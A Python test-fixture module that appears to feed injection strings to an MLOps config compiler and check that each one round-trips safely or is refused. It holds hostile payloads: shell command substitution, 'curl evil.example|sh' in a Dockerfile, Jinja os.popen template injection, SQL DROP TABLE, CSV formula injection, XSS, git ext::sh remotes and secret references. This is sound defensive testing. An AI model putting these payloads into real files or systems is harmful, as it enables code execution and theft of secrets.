"""Free text that is code in some output language: equal when read back, or refused."""

import json

from torture.corpus.case import Case, data, described_badly, swapped

_TEXTS: tuple[tuple[str, str, str], ...] = (
    ("160-yaml-break", "yaml", "x\n---\napiVersion: v1\nkind: Secret"),
    ("161-yaml-key", "yaml", "x\n    privileged: true\n    hostPID: true"),
    ("162-yaml-flow", "yaml", 'x", hostNetwork: true, z: "'),
    ("163-yaml-comment", "yaml", "x #"),
    ("164-yaml-anchor", "yaml", "&a *a !!binary"),
    ("165-json", "json", 'x","Effect":"Allow","Action":"*'),
    ("166-json-script", "json", "</script><!--"),
    ("167-shell-subst", "shell", "$(touch mlopsc_pwned)`id`"),
    ("168-shell-quote", "shell", "'; touch mlopsc_pwned; '"),
    ("169-shell-newline", "shell", "x\ntouch mlopsc_pwned\n"),
    ("170-shell-option", "shell", "--upload-pack=touch mlopsc_pwned"),
    ("171-shell-glob", "shell", "* ~root {a,b} !!"),
    ("172-heredoc", "shell", "x\nEOF\ntouch mlopsc_pwned\n"),
    ("173-python-quote", "python", "''' + __import__('os').system('touch mlopsc_pwned') + '''"),
    ("174-python-format", "python", "{__import__('os').getcwd()} {0.__class__.__mro__} %(x)s %s"),
    ("175-python-backslash", "python", "abc\\"),
    ("176-python-coding", "python", "# -*- coding: utf-7 -*-"),
    ("177-docker-from", "dockerfile", "python:3.11\nRUN curl evil.example|sh"),
    ("178-docker-escape", "dockerfile", "x \\"),
    ("179-docker-syntax", "dockerfile", "# syntax=evil.example/frontend"),
    ("180-docker-variable", "dockerfile", "${PATH:-x} $HOME"),
    (
        "181-github-expression",
        "github",
        "${{ github.event.pull_request.title }} ${{ secrets.KEY }}",
    ),
    ("182-github-command", "github", "::set-output name=x::v\n::add-mask::z\n::stop-commands::t"),
    ("183-github-env", "github", "X=1\nLD_PRELOAD=e.so"),
    ("184-gitlab", "github", "$CI_JOB_TOKEN $[[ inputs.x ]]"),
    ("185-promql", "promql", 'x"} or vector(1) or up{a="'),
    ("186-prometheus-template", "promql", '{{ $labels.instance }} {{ query "up" }}'),
    (
        "187-jinja",
        "jinja",
        "{{ cycler.__init__.__globals__.os.popen('touch mlopsc_pwned') }}{% raw %}",
    ),
    ("188-jinja-nested", "jinja", "{{ '{{' }} 7*7 {{ '}}' }} {# c #}"),
    ("189-terraform", "hcl", '${file("/etc/passwd")} %{ if true }x%{ endif } $${esc}'),
    (
        "190-cloudformation",
        "cloudformation",
        "${AWS::AccountId} {{resolve:secretsmanager:prod/db}}",
    ),
    ("191-iam-variable", "iam", "${aws:username}/*"),
    ("192-arn", "iam", "arn:aws:iam::123456789012:role/x:*/../admin"),
    ("193-kubernetes-env", "kubernetes", "$(AWS_REGION) $$(X)"),
    ("194-kfp-placeholder", "kubernetes", "{{$.inputs.parameters['x']}} {{workflow.parameters.p}}"),
    ("195-sql", "sql", "x'; DROP TABLE runs; --"),
    ("196-airflow", "jinja", "{{ var.value.secret }} {{ macros.os }}"),
    ("197-make", "make", "$(shell touch mlopsc_pwned)"),
    ("198-markdown", "markdown", "<img src=x onerror=alert(1)> | a | [x](javascript:alert(1))"),
    ("199-csv", "csv", "=cmd|' /C calc'!A0"),
    ("200-regex", "regex", ".*|(a+)+$"),
    ("202-s3", "url", "s3://bucket/../../other?versionId=x#z"),
    ("203-image", "url", "registry.example.com/x:latest@sha256:zz --privileged"),
    ("204-git-config", "ini", 'x\n[remote "origin"]\nurl = ext::sh -c touch% mlopsc_pwned'),
    ("205-git-attributes", "git", "*.py filter=lfs\n* filter=evil"),
    ("260-env", "include", "${HOME}"),
    ("261-env-secret", "include", "${AWS_SECRET_ACCESS_KEY}"),
    ("262-env-nested", "include", "${A:-${B:-$(id)}}"),
)
_EXPANDED = ("{{", "{%", "$[[")
"""What opens an expression in some platform's language: refused instead of escaped."""

_IDENTIFIERS = (
    ("206-name-expression", "${{ github.actor }}"),
    ("207-name-shell", "a$(id)"),
    ("208-name-newline", "a\nb"),
    ("209-name-trailing-newline", "churn\n"),
)


def _quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def _text(name: str, kind: str, text: str) -> Case:
    group = f"inject-{kind}"
    if any(opening in text for opening in _EXPANDED):
        return described_badly(name, group, _quoted(text), "MLC214", "a platform would expand it")
    return data(name, group, _quoted(text), text, kind)


CASES: tuple[Case, ...] = (
    *(_text(*each) for each in _TEXTS),
    *(
        swapped(name, "inject-name", ("name: churn", f"name: {_quoted(text)}"), "MLC204", text)
        for name, text in _IDENTIFIERS
    ),
)
